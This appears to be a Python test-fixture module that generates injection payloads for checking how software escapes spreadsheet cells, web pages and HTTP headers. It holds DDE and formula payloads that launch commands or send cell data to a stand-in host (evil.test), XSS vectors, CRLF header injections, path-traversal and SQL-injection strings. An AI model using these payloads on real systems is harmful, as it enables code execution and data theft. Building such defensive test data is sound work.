"""Texts that try to be more than texts: in a spreadsheet, on a page, in a header."""

from __future__ import annotations

from itertools import product

_STARTERS = "=+-@＝＋－＠"
_BEFORE = (
    "", " ", "   ", "\t", "\r", "\n", "\r\n", "\x00", "\u3000", "\u00a0", "\ufeff", '"', "'", "“",
    "‘", " \t", "\x0b", "\x0c", "\u2028", "\x00 ",
)  # fmt: skip
_BODIES = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.test/?x="&A1,"点我")',
    'WEBSERVICE("http://evil.test/?x="&A1)',
    'DDE("cmd";"/C calc";"x")',
    "SUM(A1:A9)*cmd|' /C calc'!A0",
    "MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe'!''",
    'IMPORTXML(CONCAT("http://evil.test/",A1),"//a")',
    'IMAGE("https://evil.test/x.png")',
    'IFERROR(1/0,EXEC("calc"))',
    "10+20+cmd|' /C calc'!A0",
    "rundll32|'URL.dll,OpenURL calc.exe'!A",
)
# What xlsxwriter and other writers of XML might take for markup of their own.
_OF_WORKBOOKS = (
    '<r></is></c><c r="A1"><f>1+1</f></c><c><is></r>',
    "<r><t>bold</t></r>",
    "_x003D_1+1",
    "_x0000_=1+1",
    "{=1+1}",
    "=1+1;=2+2",
    "http://evil.test/",
    "internal:Sheet1!A1",
    "mailto:a@evil.test",
    "file:///etc/passwd",
    "--1",
    "-",
    "=",
    "@",
    "+1 2",
    "-1,5",
    "-1250.5元",
    "=\t=",
    "+8613812345678",
    "=1\n=2",
)


def _chosen() -> tuple[str, ...]:
    """Every starter with every body, and every one of what may stand before with every starter."""
    plain = [starter + body for starter, body in product(_STARTERS, _BODIES)]
    behind = [before + starter + "1+1" for before, starter in product(_BEFORE[1:], _STARTERS)]
    mixed = [before + "=" + body for before, body in product(_BEFORE[1:6], _BODIES[1:])]
    return tuple(dict.fromkeys([*_OF_WORKBOOKS, *plain, *behind, *mixed]))


FORMULAS = _chosen()

#: What stays a number in every spreadsheet.
PLAIN_NUMBERS = ("-1250.5", "1e-7", "0", "12", "-3", "+86", "3.14", "1E+5", "99999999999", "-1e3")

#: What a spreadsheet would alter if it took it for a number or a date.
ALTERED = (
    "914409021949210181", "440900000000008", "066604667", "0668", "12E3", "1-2", "2021-03", "3/4",
)  # fmt: skip

_CALLS = ("alert(1)", "window.taken=1", "document.title='taken'", "fetch('//evil.test')")
_MARKUP = (
    "<script>{0}</script>",
    "</title><script>{0}</script>",
    "</textarea><script>{0}</script>",
    "</script><script>{0}</script>",
    "--><script>{0}</script>",
    "]]><script>{0}</script>",
    '"><script>{0}</script>',
    "'><script>{0}</script>",
    "<ScRiPt >{0}</sCrIpT>",
    "<script\x0c>{0}</script>",
    "<img src=x onerror={0}>",
    '"><img src=x onerror="{0}">',
    "<svg/onload={0}>",
    "<svg><script>{0}</script></svg>",
    "<svg><animate onbegin={0} attributeName=x dur=1s>",
    "<body onload={0}>",
    "<iframe srcdoc='<script>{0}</script>'></iframe>",
    '<iframe src="javascript:{0}"></iframe>',
    '<a href="javascript:{0}">甲</a>',
    "javascript:{0}",
    "jav\tascript:{0}",
    "data:text/html,<script>{0}</script>",
    '<form action="javascript:{0}"><input type=submit autofocus></form>',
    "<input autofocus onfocus={0}>",
    '" autofocus onfocus="{0}',
    "' onmouseover='{0}",
    '" style="animation:x" onanimationstart="{0}',
    "<details open ontoggle={0}>",
    "<video><source onerror={0}></video>",
    "<math><mtext><script>{0}</script></mtext></math>",
    '<meta http-equiv="refresh" content="0;url=javascript:{0}">',
    '<link rel=stylesheet href="//evil.test/x.css">{0}',
    "<style>@import '//evil.test/x.css';</style>{0}",
    '<base href="//evil.test/">{0}',
    "<object data='javascript:{0}'></object>",
    "<template><script>{0}</script></template>",
    "<noscript><p title='</noscript><script>{0}</script>'>",
    "&lt;script&gt;{0}&lt;/script&gt;",
    "&#60;script&#62;{0}&#60;/script&#62;",
    "＜script＞{0}＜/script＞",
    "{{{{ config.__class__ }}}} {{% print({0}) %}} {0}",
    "${{{0}}} #{{{0}}} <%= {0} %>",
    "\u202e<script>{0}</script>",
    "\x00<script>{0}</script>",
)
#: What would be another header or another answer, were it copied into one.
HEADERS = (
    "甲\r\nX-Injected: 1",
    "甲\nX-Injected: 1",
    "甲\rX-Injected: 1",
    "%0d%0aX-Injected:%201",
    "甲\r\nSet-Cookie: taken=1",
    "甲\r\n\r\n<script>alert(1)</script>",
    "甲\u560d\u560aX-Injected: 1",
    "甲\u2028X-Injected: 1",
    "甲\x85X-Injected: 1",
    'a"; filename="x.exe',
    "a; filename*=UTF-8''x.exe",
    "../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "%2e%2e%2fetc%2fpasswd",
    "a\x00.csv",
    "//evil.test/",
    "\\\\evil.test\\",
    "https://evil.test/",
    "甲\r\nLocation: https://evil.test/",
    "甲\r\nContent-Type: text/html",
    "甲\r\nHTTP/1.1 200 OK",
    "'; DROP TABLE record; --",
    '" OR 1=1 --',
    "甲\x0bX-Injected: 1",
)

PAGES = tuple(
    dict.fromkeys([*HEADERS, *(one.format(call) for one, call in product(_MARKUP, _CALLS))])
)
